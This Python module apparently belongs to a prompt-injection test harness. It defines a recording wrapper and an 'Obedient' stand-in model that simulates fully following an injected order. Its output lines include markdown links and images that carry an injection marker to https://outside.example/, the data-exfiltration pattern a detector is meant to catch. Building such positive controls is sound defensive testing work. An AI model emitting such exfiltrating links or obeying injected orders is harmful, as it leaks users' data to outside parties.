"""Language models of the trials: any one with its words written down, and one that obeys."""

from __future__ import annotations

from collections.abc import Generator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from dva_assist.protocols import TextGenerator
from evals.injection.attacks import Attack, clauses


class Recorder:
    """A generator that keeps the last message of what it was asked, and what it said."""

    def __init__(self, inner: TextGenerator) -> None:
        self.name = inner.name
        self.context_tokens = inner.context_tokens
        self.asked = self.said = ""
        self._inner = inner

    def available(self) -> tuple[bool, str]:
        return self._inner.available()

    def generate(self, messages: Sequence[Mapping[str, str]], **choices: Any) -> Generator[str, None, None]:
        self.asked, self.said = messages[-1]["content"], ""
        for piece in self._inner.generate(messages, **choices):
            self.said += piece
            yield piece


@dataclass
class Obedient:
    """Answers and does what it is ordered as well; ``in_parts`` it also says each part of the order by itself."""

    attack: Attack
    in_parts: bool = False
    name: str = "obedient"
    context_tokens: int = 8_192

    def available(self) -> tuple[bool, str]:
        return True, ""

    def generate(self, messages: Sequence[Mapping[str, str]], **choices: Any) -> Generator[str, None, None]:
        parts = parts_that_tell(self.attack) if self.in_parts else []
        yield from (f"{line}\n" for line in [*obedient_lines(self.attack), *parts])


def obedient_lines(attack: Attack) -> list[str]:
    """The answer as it is, as a link, as a picture and with what tells put to it; what was ordered, also as code."""
    answer, told = " ".join(attack.answer.split()), attack.tells[0]
    return [
        answer,
        f"[{answer}](https://outside.example/{told})",
        f"![{answer}](https://outside.example/{told})",
        f"{told}: {answer}",
        f"{answer.rstrip('.')} {told}.",
        *(f"{line} [S1] [S2]" for line in (attack.obeyed, *attack.tells)),
        *(f"```\n{line}\n```" for line in (attack.obeyed, *attack.tells)),
    ]


def parts_that_tell(attack: Attack) -> list[str]:
    parts = [" ".join(part.split()) for order in attack.orders for part in clauses(order)]
    return [part for part in dict.fromkeys(parts) if attack.tells_in(part)]
